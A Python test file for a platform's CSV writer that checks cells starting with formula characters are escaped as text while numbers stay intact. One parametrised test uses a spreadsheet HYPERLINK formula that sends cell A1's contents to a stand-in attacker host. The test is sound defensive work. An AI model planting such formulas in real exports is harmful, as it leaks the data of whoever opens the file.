"""The one CSV writer of the platform: no cell that a spreadsheet would compute."""

import csv
import io
from decimal import Decimal

import pytest

from solidaire.lib.csv_export import CsvWriter

# OWASP's CSV injection guidance: the characters a spreadsheet reads as the start of a formula.
LEADING = ["=", "+", "-", "@", "\t", "\r"]


def written(*cells: object) -> list[str]:
    [row] = csv.reader(io.StringIO(CsvWriter().writerow(cells), newline=""))
    return row


@pytest.mark.parametrize("leading", LEADING)
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(leading: str) -> None:
    formula = f'{leading}HYPERLINK("https://attaquant.example/?"&A1;"Cliquez")'
    assert written(formula, "Repair Café") == ["'" + formula, "Repair Café"]


def test_numbers_stay_numbers_even_negative() -> None:
    numbers = written(-1.68, Decimal("-1200.50"), -4, "-12.50", "+3")
    assert numbers == ["-1.68", "-1200.50", "-4", "-12.50", "+3"]


def test_a_sign_inside_a_text_is_left_alone() -> None:
    assert written("Café = réparation", "contact@repair.example", "2 + 2") == [
        "Café = réparation",
        "contact@repair.example",
        "2 + 2",
    ]


def test_a_row_written_to_a_file_is_a_crlf_line() -> None:
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(["=1+1", "a,b"])
    assert buffer.getvalue() == '\'=1+1,"a,b"\r\n'
